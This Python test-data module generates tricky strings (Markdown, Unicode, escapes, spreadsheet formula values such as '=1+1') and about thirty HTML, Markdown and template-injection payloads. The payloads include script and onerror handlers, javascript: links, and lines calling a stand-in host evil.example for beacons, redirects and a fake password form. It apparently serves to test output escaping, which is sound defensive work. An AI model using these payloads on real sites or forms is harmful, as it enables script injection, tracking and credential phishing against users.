"""Texts that screens, sheets and papers like to change, and texts that would like to run."""

import random
from itertools import product

TRICKY = (
    "1~3月、4~6月完成", "5*3=15*2", "_下划线_和__双下划线__", "# 一、标题", "1. 第一项", "- 列表", "> 引用", "--- ", "第一行\n第二行",
    "空格  两个", "全角　空格", "$x^2$与$$y$$", ":red[红]:smile:", "<b>粗</b>", "&amp;&#60;&lt;", "a|b|c", "C:\\new\\table", "`代码`",
    "[链接](http://a.example)", "![图](http://a.example/x.png)", "http://a.example/?a=1&b=2", "a@b.example", "=1+1", "+86-28-8665",
    "-1", "@SUM(A1)", "'单引号", "\"双引号\"", "“弯引号”", "_x000D_", "_x0041_", "{0} {name} %s %(a)s", "{{ x }}{% y %}", "100%", "±0.5℃",
    "①②③", "㎡ ㎞ №", "𠮷野家𫝹", "é与é", "👨‍👩‍👧‍👦🇨🇳", "\u200b零宽\u200d", "\u202e反向\u202c", "\ufeff标记", "…——～·", "（一）〔2020〕3号", "^上标^",
    "==高亮==", "~~删~~", "<!-- 注 -->", "</div></textarea>", "<br>", "\\n不换行", "\t制表", "NULL", "null", "True", "1e5", "2020-02-18", "00123",
)  # fmt: skip


def texts(number: int, most: int = 120) -> list[str]:
    """So many different texts, put together from the tricky ones; none begins or ends with white space."""
    dice, found = random.Random(25), list[str]()
    while len(found) < number:
        pieces = dice.sample(TRICKY, dice.randint(1, 4))
        text = dice.choice(("", "，", " ", "。", "\n")).join(pieces)[:most].strip(" \t\n　")
        if len(text) >= 2 and text.strip() == text:
            found.append(f"{text}·{len(found)}")  # different from every other
    return found


_HARM = (
    "<script>window.harmed=1</script>",
    "<img src=x onerror=window.harmed=1>",
    "<img src=http://evil.example/beacon.png>",
    "<svg onload=window.harmed=1><text>x</text></svg>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<iframe src=javascript:parent.harmed=1></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><input name=password><button>登录</button></form>",
    "<div class=harm style='position:fixed;inset:0;background:red;z-index:99999'>遮</div>",
    "<style>body{display:none}@import url(http://evil.example/x.css)</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/y>",
    "<video src=http://evil.example/v autoplay onloadstart=window.harmed=1></video>",
    "<a href=javascript:window.harmed=1>点我</a>",
    "<a href='data:text/html,<script>1</script>'>点我</a>",
    "<details open ontoggle=window.harmed=1>x</details>",
    "<input autofocus onfocus=window.harmed=1>",
    "<base href=http://evil.example/>",
    "<body onload=window.harmed=1>",
    "<math><mtext><img src=x onerror=window.harmed=1></mtext></math>",
    "![](http://evil.example/pixel.png)",
    "[点我](javascript:window.harmed=1)",
    "[点我](http://evil.example/)",
    "![x](x 'onerror=window.harmed=1')",
    ":material/home: :red-background[危] $\\href{javascript:window.harmed=1}{x}$",
    "{{constructor.constructor('window.harmed=1')()}}",
    "${window.harmed=1}",
    "<template><script>window.harmed=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.harmed=1>'></p></noscript>",
    "<button class=harm formaction=javascript:window.harmed=1>提交</button>",
)  # fmt: skip
_AROUND = ("{}", "\"'>{}", "</div></textarea></title>{}", "<!--{}-->{}", "一、{}\n二、")


def payloads(number: int) -> list[str]:
    """So many different texts that do harm wherever text is taken for markup."""
    found = [around.replace("{}", harm) for around, harm in product(_AROUND, _HARM)]
    return found[:number]
